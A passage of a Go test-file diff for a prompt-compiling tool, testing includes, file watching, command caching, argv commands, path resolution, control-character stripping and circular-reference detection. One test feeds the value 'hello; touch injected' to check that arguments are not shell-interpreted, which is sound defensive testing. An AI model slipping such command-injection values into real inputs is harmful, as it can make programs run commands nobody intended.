+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - prompt: \"nested.yml\"\n  - command: \"echo hi\""), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+
+	expected := []string{
+		filepath.Join(tmpDir, "a.txt"),
+		filepath.Join(tmpDir, "nested.yml"),
+		filepath.Join(tmpDir, "prompt.yml"),
+	}
+	if strings.Join(compiled.Dependencies, "\n") != strings.Join(expected, "\n") {
+		t.Errorf("Dependencies = %v, want %v", compiled.Dependencies, expected)
+	}
+}
+
+func TestWatchSnapshot(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	existing := filepath.Join(tmpDir, "existing.txt")
+	missing := filepath.Join(tmpDir, "missing.txt")
+	if err := os.WriteFile(existing, []byte("one"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+
+	snapshot := takeSnapshot([]string{existing, missing})
+	if _, ok := snapshot.changed(); ok {
+		t.Error("Fresh snapshot should not report changes")
+	}
+
+	if err := os.WriteFile(missing, []byte("now here"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	if path, ok := snapshot.changed(); !ok || path != missing {
+		t.Errorf("Creating a watched file should be a change, got %q %v", path, ok)
+	}
+}
+
+func TestWatchAndCompile(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	nestedFile := filepath.Join(tmpDir, "nested.yml")
+	if err := os.WriteFile(nestedFile, []byte("prompt:\n  - text: \"version one\""), 0644); err != nil {
+		t.Fatalf("Failed to create nested prompt file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - prompt: \"nested.yml\""), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	outputFile := filepath.Join(tmpDir, "output.txt")
+
+	stop := make(chan struct{})
+	done := make(chan error)
+	go func() {
+		done <- watchAndCompile(Options{
+			PromptFile:     promptFile,
+			OutputFile:     outputFile,
+			MaxWords:       128000,
+			DelimiterStyle: "xml",
+			WatchInterval:  10 * time.Millisecond,
+		}, stop)
+	}()
+
+	waitFor := func(expected string) {
+		t.Helper()
+		deadline := time.Now().Add(5 * time.Second)
+		for time.Now().Before(deadline) {
+			if output, err := os.ReadFile(outputFile); err == nil && strings.Contains(string(output), expected) {
+				return
+			}
+			time.Sleep(10 * time.Millisecond)
+		}
+		t.Fatalf("Output never contained %q", expected)
+	}
+
+	waitFor("version one")
+
+	// Editing a nested prompt and then a newly included file both trigger rebuilds
+	if err := os.WriteFile(filepath.Join(tmpDir, "added.txt"), []byte("added file"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	if err := os.WriteFile(nestedFile, []byte("prompt:\n  - text: \"version two\"\n  - file: \"added.txt\""), 0644); err != nil {
+		t.Fatalf("Failed to update nested prompt file: %v", err)
+	}
+	waitFor("version two")
+
+	if err := os.WriteFile(filepath.Join(tmpDir, "added.txt"), []byte("edited added file"), 0644); err != nil {
+		t.Fatalf("Failed to update file: %v", err)
+	}
+	waitFor("edited added file")
+
+	close(stop)
+	if err := <-done; err != nil {
+		t.Errorf("watchAndCompile returned error: %v", err)
+	}
+}
+
+func TestParseCachePolicy(t *testing.T) {
+	tests := []struct {
+		input   string
+		mode    string
+		ttl     time.Duration
+		wantErr bool
+	}{
+		{"", "never", 0, false},
+		{"never", "never", 0, false},
+		{"content", "content", 0, false},
+		{"ttl=5m", "ttl", 5 * time.Minute, false},
+		{"ttl=0s", "", 0, true},
+		{"ttl=soon", "", 0, true},
+		{"always", "", 0, true},
+	}
+
+	for _, tt := range tests {
+		policy, err := parseCachePolicy(tt.input)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("parseCachePolicy(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
+			continue
+		}
+		if policy.Mode != tt.mode || policy.TTL != tt.ttl {
+			t.Errorf("parseCachePolicy(%q) = %+v, want mode %s ttl %v", tt.input, policy, tt.mode, tt.ttl)
+		}
+	}
+}
+
+func TestCommandCaching(t *testing.T) {
+	tmpDir := t.TempDir()
+	cacheDir := filepath.Join(tmpDir, "cache")
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - command: "echo run >> stable.log; echo stable"
+  - command: "echo run >> volatile.log; echo volatile"
+    cache: never
+  - command: "echo run >> expiring.log; echo expiring"
+    cache: ttl=1h`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	opts := Options{
+		PromptFile:     promptFile,
+		MaxWords:       128000,
+		DelimiterStyle: "xml",
+		WorkDir:        tmpDir,
+		Cache:          "content",
+		CacheDir:       cacheDir,
+	}
+	for i := 0; i < 2; i++ {
+		compiled, err := compilePromptFile(opts)
+		if err != nil {
+			t.Fatalf("compilePromptFile failed: %v", err)
+		}
+		if compiled.Sections[0].Content != "stable\n" {
+			t.Errorf("Cached command should keep its output, got %q", compiled.Sections[0].Content)
+		}
+	}
+
+	runs := func(name string) int {
+		data, _ := os.ReadFile(filepath.Join(tmpDir, name))
+		return strings.Count(string(data), "run")
+	}
+	if runs("stable.log") != 1 {
+		t.Errorf("Command cached by the global policy should run once, ran %d times", runs("stable.log"))
+	}
+	if runs("volatile.log") != 2 {
+		t.Errorf("cache: never should override the global policy, ran %d times", runs("volatile.log"))
+	}
+	if runs("expiring.log") != 1 {
+		t.Errorf("Command within its ttl should run once, ran %d times", runs("expiring.log"))
+	}
+
+	// Without a cache policy the cached results are ignored
+	opts.Cache = "never"
+	if _, err := compilePromptFile(opts); err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if runs("stable.log") != 2 {
+		t.Errorf("Global never policy should rerun the command, ran %d times", runs("stable.log"))
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - command: \"date\"\n    cache: sometimes"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	if _, err := compilePromptFile(opts); err == nil || !strings.Contains(err.Error(), "invalid cache policy") {
+		t.Errorf("Expected invalid cache policy error, got: %v", err)
+	}
+}
+
+func TestMissingExecutable(t *testing.T) {
+	tests := []struct {
+		command string
+		missing string
+	}{
+		{"echo hello", ""},
+		{"exit 2", ""},
+		{"ls -la", ""},
+		{"FOO=bar ls", ""},
+		{"pcp_missing_tool --version", "pcp_missing_tool"},
+		{"FOO=bar pcp_missing_tool", "pcp_missing_tool"},
+		{"./pcp_missing_script.sh", "./pcp_missing_script.sh"},
+		{"$TOOL --version", ""},
+		{"'quoted tool' arg", ""},
+	}
+
+	for _, tt := range tests {
+		name, missing := missingExecutable(tt.command, t.TempDir())
+		if missing != (tt.missing != "") || name != tt.missing {
+			t.Errorf("missingExecutable(%q) = %q, %v, want %q", tt.command, name, missing, tt.missing)
+		}
+	}
+}
+
+func TestCommandFallbackText(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - command: "pcp_missing_tool --summary"
+    fallback_text: "summary unavailable"
+  - command: "echo installed"
+    fallback_text: "not used"`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	opts := Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"}
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].Content != "summary unavailable\n" {
+		t.Errorf("Missing tool should use fallback_text, got %q", compiled.Sections[0].Content)
+	}
+	if compiled.Sections[1].Content != "installed\n" {
+		t.Errorf("Installed tool should ignore fallback_text, got %q", compiled.Sections[1].Content)
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - command: \"pcp_missing_tool --summary\""), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	_, err = compilePromptFile(opts)
+	var notFound ErrExecutableNotFound
+	if !errors.As(err, &notFound) || notFound.Name != "pcp_missing_tool" {
+		t.Errorf("Expected ErrExecutableNotFound for pcp_missing_tool, got %v", err)
+	}
+}
+
+func TestArgvCommand(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `vars:
+  message: "hello; touch injected"
+prompt:
+  - command: ["echo", "${message}", "it's"]
+  - command: ["sh", "-c", "exit 1"]`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	opts := Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml", WorkDir: tmpDir}
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].Content != "hello; touch injected it's\n" {
+		t.Errorf("Argv command should pass arguments verbatim, got %q", compiled.Sections[0].Content)
+	}
+	if compiled.Sections[0].Source != `echo 'hello; touch injected' 'it'\''s'` {
+		t.Errorf("Argv command source should be shell-quoted, got %q", compiled.Sections[0].Source)
+	}
+	if _, err := os.Stat(filepath.Join(tmpDir, "injected")); err == nil {
+		t.Error("Argv command arguments must not be interpreted by a shell")
+	}
+	if len(compiled.Sections) != 2 {
+		t.Errorf("Exit status 1 should be tolerated for argv commands, got %d sections", len(compiled.Sections))
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - command: []"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	if _, err := compilePromptFile(opts); err == nil || !strings.Contains(err.Error(), "must not be empty") {
+		t.Errorf("Expected empty command list error, got %v", err)
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - command: [\"pcp_missing_tool\"]\n    fallback_text: fallback"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	compiled, err = compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].Content != "fallback\n" {
+		t.Errorf("Missing argv program should use fallback_text, got %q", compiled.Sections[0].Content)
+	}
+}
+
+func TestChecksumTrailer(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - text: "First"
+  - text: "Second"`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	outputFile := filepath.Join(tmpDir, "context.txt")
+	opts := Options{PromptFile: promptFile, OutputFile: outputFile, MaxWords: 128000, DelimiterStyle: "xml", Checksum: true}
+	if _, err := compileAndWrite(opts); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+
+	data, err := os.ReadFile(outputFile)
+	if err != nil {
+		t.Fatalf("Failed to read output: %v", err)
+	}
+	output := strings.TrimSuffix(string(data), "\n")
+	idx := strings.LastIndex(output, "\n")
+	body, trailer := output[:idx+1], output[idx+1:]
+
+	sum := sha256.Sum256([]byte(body))
+	expected := fmt.Sprintf("<!-- pcp-checksum: sha256=%x sections=2 -->", sum)
+	if trailer != expected {
+		t.Errorf("Trailer = %q, want %q", trailer, expected)
+	}
+
+	opts.Format = "json"
+	if err := validateOptions(opts); err == nil {
+		t.Error("Expected -checksum to be rejected for json output")
+	}
+}
+
+func TestResolvePathForms(t *testing.T) {
+	type testCase struct {
+		base     string
+		path     string
+		expected string
+	}
+	tests := []testCase{
+		{"/work/prompts", "notes.txt", "/work/prompts/notes.txt"},
+		{"/work/prompts", "../src/main.go", "/work/src/main.go"},
+		{"/work/prompts", "/etc/hosts", "/etc/hosts"},
+		{"/work/prompts", "/etc/../etc/hosts", "/etc/hosts"},
+	}
+	if runtime.GOOS == "windows" {
+		tests = []testCase{
+			{`C:\work\prompts`, `notes.txt`, `C:\work\prompts\notes.txt`},
+			{`C:\work\prompts`, `src/main.go`, `C:\work\prompts\src\main.go`},
+			{`C:\work\prompts`, `D:\data\notes.txt`, `D:\data\notes.txt`},
+			{`C:\work\prompts`, `D:notes.txt`, `D:notes.txt`},
+			{`C:\work\prompts`, `\data\notes.txt`, `C:\data\notes.txt`},
+			{`C:\work\prompts`, `/data/notes.txt`, `C:\data\notes.txt`},
+			{`C:\work\prompts`, `\\server\share\notes.txt`, `\\server\share\notes.txt`},
+			{`\\server\share\prompts`, `notes.txt`, `\\server\share\prompts\notes.txt`},
+		}
+	}
+
+	for _, tt := range tests {
+		if result := resolvePath(tt.base, tt.path); result != tt.expected {
+			t.Errorf("resolvePath(%q, %q) = %q, want %q", tt.base, tt.path, result, tt.expected)
+		}
+	}
+}
+
+func TestSourcesUseForwardSlashes(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tmpDir, "src"), 0755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(tmpDir, "src", "main.go"), []byte("package main"), 0644); err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := fmt.Sprintf("prompt:\n  - file: %q", filepath.Join("src", "main.go"))
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].Source != "src/main.go" {
+		t.Errorf("Source should use forward slashes, got %q", compiled.Sections[0].Source)
+	}
+}
+
+func TestCommandOutputIsValidUTF8(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - command: printf 'caf\351 ok'`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].Content != "caf\uFFFD ok\n" {
+		t.Errorf("Invalid UTF-8 should be replaced, got %q", compiled.Sections[0].Content)
+	}
+}
+
+func TestCommandEnvLocale(t *testing.T) {
+	for locale, expected := range map[string]bool{"en_US.UTF-8": true, "C.utf8": true, "POSIX": false, "de_DE.ISO-8859-1": false, "": false} {
+		if isUTF8Locale(locale) != expected {
+			t.Errorf("isUTF8Locale(%q) = %v, want %v", locale, !expected, expected)
+		}
+	}
+
+	if runtime.GOOS != "linux" {
+		t.Skip("locale override only applies on Linux")
+	}
+	t.Setenv("LC_ALL", "POSIX")
+	env := commandEnv()
+	if env[len(env)-1] != "LC_ALL=C.UTF-8" {
+		t.Errorf("Non-UTF-8 locale should be overridden, got %q", env[len(env)-1])
+	}
+
+	t.Setenv("LC_ALL", "en_GB.UTF-8")
+	env = commandEnv()
+	if env[len(env)-1] == "LC_ALL=C.UTF-8" {
+		t.Error("UTF-8 locale should be kept")
+	}
+}
+
+func TestStripControlChars(t *testing.T) {
+	tests := []struct {
+		input    string
+		expected string
+	}{
+		{"plain\ttext\n", "plain\ttext\n"},
+		{"\x1b[31mred\x1b[0m", "red"},
+		{"\x1b]0;title\x07shell", "shell"},
+		{"\x1b]8;;https://example.com\x1b\\link\x1b]8;;\x1b\\", "link"},
+		{"nul\x00byte\x08bell\x07", "nulbytebell"},
+		{"windows\r\nline", "windows\nline"},
+		{"c1\u009bcontrol\x7f", "c1control"},
+		{"café ✓", "café ✓"},
+	}
+
+	for _, tt := range tests {
+		if result := stripControlChars(tt.input); result != tt.expected {
+			t.Errorf("stripControlChars(%q) = %q, want %q", tt.input, result, tt.expected)
+		}
+	}
+}
+
+func TestControlCharsInSections(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "log.txt"), []byte("\x1b[32mPASS\x1b[0m\r\n"), 0644); err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: "log.txt"
+  - command: "printf 'a\\033[1mb'"`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	opts := Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"}
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].Content != "PASS\n" || compiled.Sections[1].Content != "ab\n" {
+		t.Errorf("Control characters should be stripped, got %q and %q", compiled.Sections[0].Content, compiled.Sections[1].Content)
+	}
+
+	opts.KeepControlChars = true
+	compiled, err = compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if !strings.Contains(compiled.Sections[0].Content, "\x1b[32m") {
+		t.Errorf("-keep-control-chars should keep escapes, got %q", compiled.Sections[0].Content)
+	}
+}
+
+func TestNormalizeUnicode(t *testing.T) {
+	decomposed := "cafe\u0301"
+	if result := normalizeUnicode(decomposed, "nfc"); result != "caf\u00e9" {
+		t.Errorf("NFC should compose characters, got %q", result)
+	}
+	if result := normalizeUnicode(decomposed, "none"); result != decomposed {
+		t.Errorf("none should leave output unchanged, got %q", result)
+	}
+
+	opts := Options{DelimiterStyle: "xml", Normalize: "nfd"}
+	if err := validateOptions(opts); err == nil || !strings.Contains(err.Error(), "invalid normalization") {
+		t.Errorf("Expected invalid normalization error, got %v", err)
+	}
+}
+
+func TestDuplicateSections(t *testing.T) {
+	tmpDir := t.TempDir()
+	var words []string
+	for i := 0; i < 60; i++ {
+		words = append(words, fmt.Sprintf("word%d", i))
+	}
+	long := strings.Join(words, " ") + " "
+	files := map[string]string{
+		"a.txt":      "same content",
+		"b.txt":      "same content",
+		"long.txt":   long + "ending one",
+		"edited.txt": long + "ending two",
+		"other.txt":  "something else entirely",
+		"nested.yml": "prompt:\n  - file: \"a.txt\"",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create %s: %v", name, err)
+		}
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: "a.txt"
+    label: a
+  - file: "b.txt"
+  - file: "long.txt"
+  - file: "edited.txt"
+  - file: "other.txt"
+  - prompt: "nested.yml"
+  - ref: "#a"`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+
+	var reports []string
+	for _, d := range compiled.Stats.Duplicates {
+		reports = append(reports, describeDuplicate(d))
+	}
+	expected := []string{
+		"section b.txt has the same content as a.txt",
+		"section a.txt has the same content as a.txt",
+		"section a.txt has the same content as b.txt",
+		"section edited.txt is 97% similar to long.txt",
+	}
+	if strings.Join(reports, "\n") != strings.Join(expected, "\n") {
+		t.Errorf("Duplicate reports = %v, want %v", reports, expected)
+	}
+
+	var stats bytes.Buffer
+	printStats(&stats, compiled.Stats)
+	if !strings.Contains(stats.String(), "duplicate sections: 4") {
+		t.Errorf("Stats should list duplicates, got:\n%s", stats.String())
+	}
+}
+
+func TestMergeSources(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"shared.txt": "shared one two three four five six seven eight nine",
+		"other.txt":  "other content",
+		"nested.yml": "prompt:\n  - file: \"shared.txt\"\n    max_words: 7\n  - file: \"other.txt\"",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create %s: %v", name, err)
+		}
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: "shared.txt"
+  - prompt: "nested.yml"
+  - file: "./shared.txt"`
+
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	opts := Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml", MergeSources: true}
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+
+	if len(compiled.Sections) != 2 || compiled.Stats.MergedSections != 2 {
+		t.Fatalf("Expected 2 sections with 2 merged away, got %d and %d", len(compiled.Sections), compiled.Stats.MergedSections)
+	}
+	first := compiled.Sections[0]
+	if first.Source != "shared.txt" || !strings.HasPrefix(first.Content, "shared one two three four five six seven eight nine\n") {
+		t.Errorf("First occurrence should keep its position and content, got %+v", first)
+	}
+	if !strings.Contains(first.Content, "[... truncated 8 words ...]") {
+		t.Errorf("Differing content from later occurrences should be appended, got %q", first.Content)
+	}
+	nested := compiled.Sections[1]
+	if len(nested.Children) != 1 || strings.Contains(nested.Content, "shared.txt") {
+		t.Errorf("Nested occurrence should be removed, got:\n%s", nested.Content)
+	}
+}
+
+func TestFileSelfInclusion(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	nestedFile := filepath.Join(tmpDir, "nested.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - prompt: \"nested.yml\""), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	if err := os.WriteFile(nestedFile, []byte("prompt:\n  - file: \"prompt.yml\""), 0644); err != nil {
+		t.Fatalf("Failed to create nested prompt file: %v", err)
+	}
+
+	opts := Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"}
+	_, err := compilePromptFile(opts)
+	var circular ErrCircularReference
+	if !errors.As(err, &circular) {
+		t.Fatalf("Expected ErrCircularReference for self-inclusion, got %v", err)
+	}
+	if len(circular.Path) != 2 || filepath.Base(circular.Path[0]) != "prompt.yml" || filepath.Base(circular.Path[1]) != "nested.yml" {
+		t.Errorf("Reference path should list the include chain in order, got %v", circular.Path)
+	}
+
+	if err := os.WriteFile(nestedFile, []byte("prompt:\n  - file: \"prompt.yml\"\n    allow_self: true"), 0644); err != nil {
+		t.Fatalf("Failed to create nested prompt file: %v", err)
+	}
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("allow_self should permit reading the prompt file, got %v", err)
+	}
+	if !strings.Contains(compiled.Sections[0].Content, "nested.yml") {
+		t.Errorf("Expected the prompt file's YAML as text, got %q", compiled.Sections[0].Content)
+	}
+}
+
+func TestCircularReferenceChain(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tmpDir, "parts"), 0755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	files := map[string]string{
+		"a.yml":       "prompt:\n  - prompt: \"b.yml\"",
+		"b.yml":       "prompt:\n  - prompt: \"parts/c.yml\"",
+		"parts/c.yml": "prompt:\n  - prompt: \"../a.yml\"",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create %s: %v", name, err)
+		}
+	}
+
+	err := processPromptFile(filepath.Join(tmpDir, "a.yml"), "", 128000, "xml")
+	expected := displayPath(filepath.Join(tmpDir, "parts", "c.yml")) + ":2: circular reference detected: a.yml -> b.yml -> parts/c.yml -> a.yml"
+	if err == nil || err.Error() != expected {
+		t.Errorf("Expected %q, got %v", expected, err)
+	}
+}
+
+func TestCompilePlan(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tmpDir, "parts"), 0755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	files := map[string]string{
+		"parts/nested.yml": "prompt:\n  - file: \"notes.txt\"\n  - text: \"line one\\nline two\"",
+		"prompt.yml": `vars:
+  lang: go
+prompt:
+  - command: "touch ran.txt; ls ${lang}"
+  - prompt: "parts/nested.yml"
+  - file: "skipped.txt"
+    disabled: true`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create %s: %v", name, err)
+		}
+	}
+
+	opts := Options{PromptFile: filepath.Join(tmpDir, "prompt.yml"), MaxWords: 128000, DelimiterStyle: "xml", WorkDir: tmpDir}
+	plan, err := resolvePlan(opts)
+	if err != nil {
+		t.Fatalf("resolvePlan failed: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(tmpDir, "ran.txt")); err == nil {
+		t.Error("Planning must not run commands")
+	}
+
+	flat := plan.Flatten()
+	if len(flat) != 3 {
+		t.Fatalf("Expected 3 concrete operations, got %d", len(flat))
+	}
+	if flat[1].Path != filepath.Join(tmpDir, "parts", "notes.txt") {
+		t.Errorf("Nested file should resolve against its prompt file, got %q", flat[1].Path)
+	}
+
+	var out bytes.Buffer
+	printPlan(&out, plan)
+	expected := fmt.Sprintf("prompt.yml:0 command touch ran.txt; ls go\nparts/nested.yml:0 file %s\nparts/nested.yml:1 text line one\n", flat[1].Path)
+	if out.String() != expected {
+		t.Errorf("printPlan output:\n%s\nwant:\n%s", out.String(), expected)
+	}
+}
+
+func TestOutputMode(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("permission bits are not supported on Windows")
+	}
+
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - text: \"secret\""), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	outputFile := filepath.Join(tmpDir, "context.txt")
+	if err := os.WriteFile(outputFile, []byte("old"), 0644); err != nil {
+		t.Fatalf("Failed to create output file: %v", err)
+	}
+
+	opts := Options{PromptFile: promptFile, OutputFile: outputFile, MaxWords: 128000, DelimiterStyle: "xml", OutputMode: 0600}
+	if _, err := compileAndWrite(opts); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+	info, err := os.Stat(outputFile)
+	if err != nil {
+		t.Fatalf("Failed to stat output: %v", err)
+	}
+	if info.Mode().Perm() != 0600 {
+		t.Errorf("Existing output file should get mode 0600, got %04o", info.Mode().Perm())
+	}
+
+	t.Setenv("PCP_OUTPUT_MODE", "0640")
+	if mode := envOutputMode(); mode != 0640 {
+		t.Errorf("PCP_OUTPUT_MODE should set the default, got %04o", mode)
+	}
+	t.Setenv("PCP_OUTPUT_MODE", "rw-------")
+	if mode := envOutputMode(); mode != 0644 {
+		t.Errorf("Invalid PCP_OUTPUT_MODE should fall back to 0644, got %04o", mode)
+	}
+	if _, err := parseFileMode("1777"); err == nil {
+		t.Error("Expected modes beyond 0777 to be rejected")
+	}
+}
+
+func TestOutputDir(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "main.go"), []byte("package main"), 0644); err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: "main.go"
+  - text: "Review this"
+  - text: "Then summarise"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	outDir := filepath.Join(tmpDir, "out")
+	opts := Options{PromptFile: promptFile, OutputDir: outDir, MaxWords: 128000, DelimiterStyle: "xml"}
+	if _, err := compileAndWrite(opts); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+
+	data, err := os.ReadFile(filepath.Join(outDir, "index.json"))
+	if err != nil {
+		t.Fatalf("Failed to read index: %v", err)
+	}
+	var index dirIndex
+	if err := json.Unmarshal(data, &index); err != nil {
+		t.Fatalf("Index is not valid JSON: %v", err)
+	}
+	var names []string
+	for _, entry := range index.Sections {
+		names = append(names, entry.File)
+	}
+	if strings.Join(names, ",") != "001-main-go.txt,002-text.txt,003-text.txt" {
+		t.Errorf("Unexpected section files %v", names)
+	}
+
+	first, err := os.ReadFile(filepath.Join(outDir, "001-main-go.txt"))
+	if err != nil {
+		t.Fatalf("Failed to read section file: %v", err)
+	}
+	if string(first) != "<!-- pcp-source: main.go -->\npackage main\n" {
+		t.Errorf("Unexpected section file content %q", first)
+	}
+
+	// Sections that disappear are cleaned up on the next compile
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - text: \"Only one\""), 0644); err != nil {
+		t.Fatalf("Failed to rewrite prompt file: %v", err)
+	}
+	if _, err := compileAndWrite(opts); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+	entries, _ := os.ReadDir(outDir)
+	if len(entries) != 2 {
+		t.Errorf("Expected one section file and the index after recompiling, got %d entries", len(entries))
+	}
+
+	opts.OutputFile = filepath.Join(tmpDir, "context.txt")
+	if err := validateOptions(opts); err == nil {
+		t.Error("Expected -o and -o-dir together to be rejected")
+	}
+}
+
+func TestBundleOutput(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "notes.txt"), []byte("bundled notes"), 0644); err != nil {
